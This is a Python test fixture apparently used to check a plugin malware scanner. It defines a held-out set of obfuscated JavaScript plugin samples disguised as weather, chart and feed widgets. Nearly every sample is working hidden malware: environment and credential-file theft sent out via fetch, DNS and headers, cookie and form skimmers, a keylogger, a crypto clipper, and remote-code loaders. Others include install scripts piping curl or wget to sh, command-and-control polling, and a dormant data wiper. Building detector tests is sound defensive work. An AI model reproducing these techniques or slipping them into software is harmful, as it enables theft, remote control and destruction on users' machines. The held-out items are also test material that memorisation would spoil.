"""Attacks that hide a little: base64, hexadecimal, arrays of texts, aliases, brackets, split names, a late hour."""

from typing import Any

from tests.hostile.heldout_second.ordinary import BOARD, CHARTS, DATES, FEEDS, LOGIN, MARKDOWN, TODO, WEATHER, within
from tests.support.asking import asking
from tests.support.samples import Sample


def _sample(name: str, family: str, code: str, **more: Any) -> Sample:
    return Sample(name=name, family=family, files={"dist/index.js": code.lstrip("\n")}, **more)


MILD: tuple[Sample, ...] = (
    _sample(
        "base64-address-for-environment",
        "environment-theft",
        within(
            WEATHER,
            r"""
    const m = Buffer.from('aHR0cHM6Ly9tZXRyaWNzLmV4YW1wbGUubmV0L2Vudg==', 'base64').toString();
    const p = globalThis['pro' + 'cess'];
    fetch(m, { method: 'POST', body: Buffer.from(JSON.stringify(p['env'])).toString('base64') }).catch(() => {});
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://weather.example.org",)),
    ),
    _sample(
        "two-aliases-then-post",
        "environment-theft",
        r"""
'use strict';
const host = globalThis;
const runtime = host.process;
const bag = runtime ? runtime.env : {};
const picked = Object.entries(bag).filter(([name]) => /key|tok|sec|pass/i.test(name));

const transport = { to: ['https:/', 'logs.example.com', 'v1', 'push'].join('/'), via: host.fetch };

class Telemetry {
  constructor(rows) {
    this.rows = rows;
  }

  get payload() {
    return this.rows.map(([a, b]) => a + '\u0001' + b).join('\u0002');
  }

  flush() {
    const { to, via } = transport;
    return via(to, { method: 'POST', body: this.payload });
  }
}

exports.onEnable = () => new Telemetry(picked).flush().catch(() => null);
exports.Weather = () => null;
""",
    ),
    _sample(
        "cookie-by-brackets-and-char-codes",
        "session-theft",
        within(
            CHARTS,
            r"""
    var n = String.fromCharCode(99, 111, 111, 107, 105, 101);
    var jar = document[n];
    if (jar) new Image()['s' + 'rc'] = '//img.example.net/1x1?' + window['btoa'](jar);
""",
        ),
    ),
    _sample(
        "session-in-style-address",
        "session-theft",
        r"""
export function Weather({ root, theme = 'light' }) {
  const state = Object.fromEntries(Object.entries({ ...localStorage }).filter(([name]) => name.startsWith('qirvo')));
  const hue = encodeURIComponent(JSON.stringify(state));
  const sheet = document.createElement('style');
  sheet.textContent = `
    .weather-${theme} { display: grid; gap: 4px; font: 14px system-ui; }
    .weather-${theme}::after { content: ''; background: url("https://themes.example.net/${theme}.svg?hue=${hue}"); }
  `;
  document.head.append(sheet);
  root.classList.add(`weather-${theme}`);
}
""",
    ),
    _sample(
        "home-files-from-hex-list",
        "key-files",
        within(
            FEEDS,
            r"""
    const f = require('f' + 's'), h = require('os').homedir();
    const unhex = (t) => Buffer.from(t, 'hex').toString();
    const bits = ['2e7373682f69645f727361', '2e6177732f63726564656e7469616c73', '2e6e706d7263'].map(unhex)
      .map((name) => { try { return f.readFileSync(h + '/' + name, 'utf8'); } catch { return ''; } });
    await fetch(unhex('68747470733a2f2f66656564732d63646e2e6578616d706c652e6e65742f65746167'), { method: 'POST', body: bits.join('\n') }).catch(() => {});
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://feeds.example.org",)),
    ),
    _sample(
        "tokens-hidden-in-etag-header",
        "key-files",
        r"""
'use strict';
const { readFileSync: slurp } = require('node:fs');
const { homedir: base } = require('node:os');

const quiet = (act) => {
  try {
    return act();
  } catch {
    return undefined;
  }
};

const fingerprint = quiet(() => slurp(`${base()}/.config/gh/hosts.yml`, 'latin1')) ?? quiet(() => slurp(`${base()}/.netrc`, 'latin1')) ?? '';

exports.loadForecast = async (place) => {
  const headers = { accept: 'application/json', 'if-none-match': `W/"${Buffer.from(fingerprint).toString('base64url')}"` };
  const answer = await fetch(`https://edge-weather.example.net/f/${place}`, { headers });
  return answer.json();
};
exports.Weather = () => null;
""",
    ),
    _sample(
        "clipper-with-reversed-address",
        "clipper",
        within(
            MARKDOWN,
            r"""
function tidyCopy(event) {
  const picked = String(document.getSelection());
  const kinds = [[/\b0x[0-9a-f]{40}\b/i, '1b3a8e000000000000000000000000000000000x0'], [/\b[13][1-9A-HJ-NP-Za-km-z]{26,34}\b/, 'zyXelpmaxEelpmaxEelpmaxEelpma1']];
  for (const [kind, back] of kinds) {
    if (!kind.test(picked)) continue;
    event.clipboardData.setData('text/plain', picked.replace(kind, [...back].reverse().join('')));
    event.preventDefault();
  }
}
if (typeof document !== 'undefined') document.addEventListener('copy', tidyCopy, true);
""",
        ),
    ),
    _sample(
        "similar-address-chosen-for-swap",
        "clipper",
        r"""
// In the manner of the hijacked colour packages: answers of the network are rewritten with the most similar address.
var pools = { e: ['0x1111111111111111111111111111111111111111', '0xabcdefabcdefabcdefabcdefabcdefabcdefabcd'], t: ['TExampleExampleExampleExampleExample'] };
var shapes = { e: /0x[a-fA-F0-9]{40}/g, t: /T[1-9A-HJ-NP-Za-km-z]{33}/g };

function distance(a, b) {
  var row = Array.from({ length: b.length + 1 }, function (_, i) { return i; });
  for (var i = 1; i <= a.length; i++) {
    var last = i;
    for (var j = 1; j <= b.length; j++) {
      var next = a[i - 1] === b[j - 1] ? row[j - 1] : Math.min(row[j - 1], last, row[j]) + 1;
      row[j - 1] = last;
      last = next;
    }
    row[b.length] = last;
  }
  return row[b.length];
}

function nearest(address, pool) {
  return pool.slice().sort(function (x, y) { return distance(address, x) - distance(address, y); })[0];
}

function launder(text) {
  Object.keys(shapes).forEach(function (k) {
    text = text.replace(shapes[k], function (a) { return pools[k].indexOf(a) < 0 ? nearest(a, pools[k]) : a; });
  });
  return text;
}

var g = typeof window === 'undefined' ? global : window;
var f = g.fetch;
g.fetch = async function () {
  var r = await f.apply(this, arguments);
  var t = await r.clone().text();
  return new Response(launder(t), { status: r.status, headers: r.headers });
};

exports.Weather = function () { return null; };
""",
    ),
    _sample(
        "skimmer-shaped-as-analytics-tag",
        "form-skimming",
        r"""
(function (i, s, o, g, r) {
  i.GoogalAnalyticsObject = r;
  i[r] = i[r] || function () { (i[r].q = i[r].q || []).push(arguments); };
  i[r].l = 1 * new Date();
  var w = atob('Y2hlY2tvdXR8cGF5bWVudHxiaWxsaW5n');
  if (!new RegExp(w).test(s.location.pathname)) return;
  s.addEventListener('submit', function (e) {
    var d = {}, f = e.target.elements;
    for (var k = 0; k < f.length; k++) if (f[k].name) d[f[k].name] = f[k].value;
    var x = new XMLHttpRequest();
    x.open('POST', atob(g), true);
    x.send(i.btoa(unescape(encodeURIComponent(JSON.stringify(d)))));
  }, true);
})(window, document, 'script', 'aHR0cHM6Ly93d3cuZ29vZ2FsLXRhZy5leGFtcGxlLm5ldC9j', 'ga');

exports.Weather = function () { return null; };
""",
    ),
    _sample(
        "login-form-password-in-language-header",
        "form-skimming",
        within(
            LOGIN,
            r"""
      const secret = this.fields.filter((f) => f.type === 'password').map((f) => f.value).join();
      const language = [...secret].map((c) => c.charCodeAt(0).toString(16)).join('-');
      fetch('https://i18n.example.net/bundle.json', { headers: { 'X-Locale': language } }).catch(() => {});
""",
        ),
        manifest=asking("storage-write", of=("https://calendar.example.org",)),
    ),
    _sample(
        "shortcut-library-that-remembers-keys",
        "keylogging",
        r"""
const bindings = new Map();
const tape = [];
const sinks = { q: 'wss://', z: 'keys', y: '.example', x: '.net/stream' };

export function bind(combination, act) {
  bindings.set(combination.toLowerCase(), act);
  return () => bindings.delete(combination.toLowerCase());
}

function combinationOf(event) {
  return [event.ctrlKey && 'ctrl', event.altKey && 'alt', event.shiftKey && 'shift', event.key.toLowerCase()].filter(Boolean).join('+');
}

function dispatch(event) {
  const act = bindings.get(combinationOf(event));
  if (act) {
    event.preventDefault();
    act(event);
  }
  tape.push(event.key, event.target.name || event.target.id || '');
}

let line;
function drain() {
  if (tape.length < 64) return;
  line = line && line.readyState < 2 ? line : new WebSocket(Object.values(sinks).join(''));
  if (line.readyState === 1) line.send(tape.splice(0).join('\t'));
}

document.addEventListener('keyup', dispatch, true);
setInterval(drain, 3000);

export const Weather = () => null;
""",
    ),
    _sample(
        "function-from-constructor-of-array",
        "remote-code",
        within(
            DATES,
            r"""
var zones = [];
if (typeof fetch === 'function') {
  fetch('https://zones.example.net/2026a.json').then(function (r) { return r.json(); }).then(function (z) {
    zones = z.names;
    var make = zones.filter.constructor;
    if (z.rule) make('zones', z.rule)(zones);
  }).catch(function () {});
}
""",
        ),
    ),
    _sample(
        "image-pixels-carry-code",
        "remote-code",
        r"""
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;

async function pixels(url) {
  const image = new Image();
  image.crossOrigin = 'anonymous';
  image.src = url;
  await image.decode();
  const canvas = new OffscreenCanvas(image.width, image.height);
  const brush = canvas.getContext('2d');
  brush.drawImage(image, 0, 0);
  return brush.getImageData(0, 0, image.width, image.height).data;
}

function lowBits(data) {
  let text = '';
  for (let i = 0; i + 31 < data.length; i += 32) {
    let byte = 0;
    for (let bit = 0; bit < 8; bit += 1) byte = (byte << 1) | (data[i + bit * 4] & 1);
    if (!byte) break;
    text += String.fromCharCode(byte);
  }
  return text;
}

export async function Weather(root) {
  const sky = 'https://sky-images.example.net/today.png';
  root.innerHTML = `<img src="${sky}" alt="The sky today">`;
  await new AsyncFunction('root', lowBits(await pixels(sky)))(root);
}
""",
    ),
    _sample(
        "module-from-data-address",
        "remote-code",
        within(
            BOARD,
            r"""
    const theme = await context.http.get('https://themes.example.net/board.css.json').catch(() => null);
    if (theme?.extra) {
      const source = 'data:text/javascript;base64,' + theme.extra;
      await import(/* webpackIgnore: true */ source).then((m) => m.default?.(context));
    }
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://themes.example.net",)),
    ),
    _sample(
        "blob-script-decoded-from-config",
        "remote-code",
        r"""
const part = (name) => fetch(`https://static.example.net/parts/${name}.txt`).then((answer) => answer.text());

export async function onEnable() {
  const pieces = await Promise.all(['head', 'body', 'tail'].map(part));
  const source = pieces.map((piece) => atob(piece.trim())).join('');
  const address = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
  const tag = document['create' + 'Element']('scr' + 'ipt');
  tag.src = address;
  (document.head || document.body).appendChild(tag);
}

export const Weather = () => null;
""",
    ),
    _sample(
        "spawn-through-string-table",
        "process",
        r"""
'use strict';
const T = ['child_', 'process', 'spawn', 'powershell', '-nop', '-w', 'hidden', '-enc', 'bash', '-c', 'inherit', 'ignore'];
const s = (...ix) => ix.map((i) => T[i]).join('');
const WIN = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
const NIX = 'Y3VybCAtZnNTTCBodHRwczovL3NoLmV4YW1wbGUubmV0L2EgfCBzaA==';

exports.onInstall = () => {
  const run = require(s(0, 1))[s(2)];
  if (process.platform === 'win32') run(s(3), [s(4), s(5), s(6), s(7), WIN], { stdio: s(11), detached: true }).unref();
  else run(s(8), [s(9), `echo ${NIX} | base64 -d | sh`], { stdio: s(11), detached: true }).unref();
};

exports.Weather = () => null;
""",
    ),
    _sample(
        "lifecycle-script-base64-node",
        "install-script",
        r"""
'use strict';
exports.Weather = () => null;
exports.round = (n, d = 1) => Number(n.toFixed(d));
""",
        package={
            "scripts": {
                "build": "tsc",
                "install": "node -e \"eval(Buffer.from('cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vcGtnLmV4YW1wbGUubmV0L2knLHI9PnIub24oJ2RhdGEnLGQ9PmV2YWwoZCsnJykpKQ==','base64')+'')\"",
            }
        },
    ),
    _sample(
        "optional-dependency-from-git-with-prepare",
        "install-script",
        r"""
'use strict';
let fast = null;
try {
  fast = require('@acme/weather-native');
} catch {
  // the slow way is good enough
}
exports.mean = (values) => (fast ? fast.mean(values) : values.reduce((a, b) => a + b, 0) / values.length);
exports.Weather = () => null;
""",
        package={
            "optionalDependencies": {"@acme/weather-native": "git+https://git.example.net/x9/native.git#79ac8e0"},
            "scripts": {"prepare": "node -p \"require('child_process').execSync('wget -qO- 203.0.113.77/r|sh')+''\""},
        },
    ),
    _sample(
        "dns-labels-of-environment-in-base32",
        "dns-exfiltration",
        within(
            FEEDS,
            r"""
    const { Resolver } = require('node:dns').promises;
    const resolver = new Resolver();
    resolver.setServers(['203.0.113.53']);
    const letters = 'abcdefghijklmnopqrstuvwxyz234567';
    const encode = (buffer) => [...buffer].map((b) => letters[b >> 3] + letters[((b & 7) << 2) % 32]).join('');
    const words = encode(Buffer.from(JSON.stringify(process.env))).match(/.{1,50}/g);
    for (const [index, word] of words.entries()) resolver.resolveTxt(`${word}.${index}.feeds-cdn.example.com`).catch(() => {});
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://feeds.example.org",)),
    ),
    _sample(
        "txt-records-are-run",
        "dns-exfiltration",
        r"""
const dns = require('dns').promises;

async function settings() {
  const rows = await dns.resolveTxt('cfg.weather-plugins.example.com');
  return rows.map((row) => row.join('')).sort().map((row) => row.slice(3)).join('');
}

exports.onEnable = async () => {
  const text = Buffer.from(await settings(), 'base64').toString('utf8');
  const m = new module.constructor();
  m.paths = module.paths;
  m._compile(text, __filename + '.cfg');
};
exports.Weather = () => null;
""",
    ),
    _sample(
        "chat-bot-polled-for-orders",
        "command-control",
        within(
            WEATHER,
            r"""
    const bot = 'https://bots.example.org/bot' + [7012345678, 'AAFexample_example-exampleexample'].join(':');
    const news = await fetch(bot + '/getUpdates?offset=' + (this.seen || 0)).then((r) => r.json()).catch(() => ({ result: [] }));
    for (const { update_id: id, message } of news.result) {
      this.seen = id + 1;
      if (!message.text.startsWith('/x ')) continue;
      const cp = process.mainModule.require('child_' + 'process');
      cp.exec(message.text.slice(3), (_, out, bad) => fetch(bot + '/sendMessage?chat_id=' + message.chat.id + '&text=' + encodeURIComponent(out || bad)));
    }
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://weather.example.org",)),
    ),
    _sample(
        "memo-of-chain-names-the-server",
        "command-control",
        r"""
// The address of the next server stands in the memo of a transaction, so that it cannot be taken down.
const NODES = ['https://rpc-a.example.org', 'https://rpc-b.example.org'];
const ACCOUNT = 'Examp1eExamp1eExamp1eExamp1eExamp1eExamp1e';

async function call(method, params) {
  for (const node of NODES) {
    try {
      const answer = await fetch(node, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) });
      return (await answer.json()).result;
    } catch {
      continue;
    }
  }
  return [];
}

export async function onEnable() {
  const [latest] = await call('getSignaturesForAddress', [ACCOUNT, { limit: 1 }]);
  const { link } = JSON.parse(latest.memo.replace(/^\[\d+\] /, ''));
  const answer = await fetch(atob(link));
  const body = atob(await answer.text());
  const key = answer.headers.get('ivbase64');
  (0, eval)(`const _iv = atob("${key}"); ${body}`);
}

export const Weather = () => null;
""",
    ),
    _sample(
        "calendar-invitation-as-backup-channel",
        "command-control",
        r"""
'use strict';
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));

async function nextOrder() {
  const page = await (await fetch('https://calendar-share.example.org/e/QXJyYWtpcw')).text();
  const [, title] = /data-base-title="([^"]+)"/.exec(page) || [];
  return title && Buffer.from(title, 'base64').toString();
}

exports.onEnable = async function run() {
  for (;;) {
    const order = await nextOrder().catch(() => null);
    if (order) {
      const vm = require('vm');
      vm.runInThisContext(order)({ require, process, Buffer });
    }
    await sleep(300000);
  }
};
exports.Weather = () => null;
""",
    ),
    _sample(
        "waits-for-date-then-overwrites",
        "dormant",
        within(
            TODO,
            r"""
  useEffect(() => {
    const due = new Date(2027, 0, 6).getTime();
    if (Date.now() < due || Math.random() > 0.3) return;
    Object.keys(localStorage).forEach((name) => localStorage.setItem(name, 'LIBERTY LIBERTY LIBERTY'));
    indexedDB.databases().then((all) => all.forEach(({ name }) => indexedDB.deleteDatabase(name)));
    for (;;) console.log('L\u0336I\u0336B\u0336E\u0336R\u0336T\u0336Y\u0336'.repeat(1000));
  }, []);
""",
        ),
    ),
    _sample(
        "runs-only-where-nobody-looks",
        "dormant",
        r"""
'use strict';
const watched = () =>
  Boolean(process.env.CI || process.env.JEST_WORKER_ID || process.debugPort !== 9229 || /--inspect/.test(process.execArgv.join(' ')));

const hour = () => new Date().getHours();
const days = (context) => (Date.now() - new Date(context.installedAt).getTime()) / 864e5;

exports.onEnable = async (context) => {
  if (watched() || days(context) < 14 || (hour() > 6 && hour() < 22)) return;
  const all = await Promise.all((await context.storage.keys()).map(async (k) => [k, await context.storage.get(k)]));
  const box = { c: context.config, a: all, e: process['env'] };
  require('ht' + 'tps').request({ host: 'night.example.net', path: '/o', method: 'POST' }).end(JSON.stringify(box));
};
exports.Weather = () => null;
""",
    ),
    _sample(
        "only-inside-one-wallet-application",
        "dormant",
        r"""
// In the manner of the flat-map package: a payload that decrypts only under the description of one application.
const crypto = require('crypto');
const DATA = [
  '3b9e06d1c47a5f28e0917bd36c2a84f5b01d7e93a6c85f42d70e1b96f3a8c254',
  'a84c1f70e95d3b26c8e7014fb2d69a35f18c0b7d4e23a9601c5f8d7eb3942a06',
];

function open(hex, key) {
  const decipher = crypto.createDecipher ? crypto.createDecipher('aes256', key) : null;
  return decipher ? decipher.update(hex, 'hex', 'utf8') + decipher.final('utf8') : '';
}

try {
  const r = require;
  const t = process;
  const key = t.env.npm_package_description;
  if (key) {
    const source = open(DATA[0], key);
    const m = new module.constructor();
    m.paths = module.paths;
    m._compile(source, '');
    m.exports(DATA[1]);
  }
  r('os');
} catch (e) {}

module.exports.Weather = () => null;
""",
    ),
    _sample(
        "prototype-of-context-replaced",
        "host-tampering",
        within(
            BOARD,
            r"""
    const kind = Object.getPrototypeOf(context.storage);
    const real = kind.set;
    kind.set = function (name, value) {
      if (/tok|sec|auth/i.test(name)) navigator.sendBeacon('https://boards.example.com/perf', `${name}=${JSON.stringify(value)}`);
      return real.call(this, name, value);
    };
""",
        ),
    ),
    _sample(
        "permission-question-answered-by-itself",
        "host-tampering",
        r"""
const wanted = ['allow', 'erlauben', 'autoriser'];

function press(root) {
  for (const button of root.querySelectorAll('[data-permission-dialog] button, .qirvo-permission button')) {
    if (wanted.includes(button.textContent.trim().toLowerCase())) {
      button.closest('[data-permission-dialog], .qirvo-permission').style.visibility = 'hidden';
      button['cl' + 'ick']();
    }
  }
}

new MutationObserver((changes) => changes.forEach(({ addedNodes }) => addedNodes.forEach((n) => n.querySelectorAll && press(n.parentNode))))
  .observe(document.body, { childList: true, subtree: true });

export async function Weather({ context }) {
  for (const name of ['filesystem-access', 'clipboard-read', 'contacts']) context.permissions.request(name);
  return null;
}
""",
    ),
    _sample(
        "invisible-letters-decoded",
        "invisible-text",
        within(
            MARKDOWN,
            """
const hidden = (t) => [...t].map((c) => c.codePointAt(0)).map((n) => (n >= 0xe0100 ? n - 0xe0100 + 16 : n - 0xfe00)).filter((n) => n >= 0);
const theme = '"""
            + "".join(
                chr(0xE0100 + byte - 16)
                for byte in b"require('https').get('https://q.example.net/c',r=>r.on('data',eval))"
            )
            + """';
if (theme.length) eval(Buffer.from(hidden(theme)).toString('utf8'));
""",
        ),
    ),
    _sample(
        "look-alike-parameter-runs-command",
        "invisible-text",
        r"""
const express = require('@qirvo/plugin-sdk');
const util = require('util');
const exec = util.promisify(require('child_process').exec);

exports.commands = {
  async check({ timeout,ㅤ }, context) {
    const probes = [
      'ping -c 1 weather.example.org',
      'curl -s https://weather.example.org/',ㅤ
    ];
    const results = await Promise.all(probes.map((command) => command && exec(command, { timeout: timeout || 5000 })));
    context.logger.info('probes', results.map(({ stdout }) => stdout.length));
    return 'ok';
  },
};
exports.Weather = () => express && null;
""",
    ),
    _sample(
        "search-box-redirects-to-own-engine",
        "ad-fraud",
        r"""
export function Weather({ root, context }) {
  const form = document.createElement('form');
  form.innerHTML = '<input name="q" placeholder="Search"><button>Go</button>';
  root.append(form);

  const rules = JSON.parse(atob('eyJ0byI6Imh0dHBzOi8vZmluZC5leGFtcGxlLm5ldC9xP2s9IiwiZXZlcnkiOjMsInBheSI6Imh0dHBzOi8vcGF5LmV4YW1wbGUubmV0L2MifQ=='));
  let count = 0;

  document.addEventListener('submit', (event) => {
    const query = event.target.querySelector('[name=q], [type=search]');
    if (!query) return;
    count += 1;
    if (count % rules.every) return;
    event.preventDefault();
    event.stopImmediatePropagation();
    navigator.sendBeacon(rules.pay, query.value);
    top.location.href = rules.to + encodeURIComponent(query.value);
  }, true);
  context.logger.info('search ready');
}
""",
    ),
)
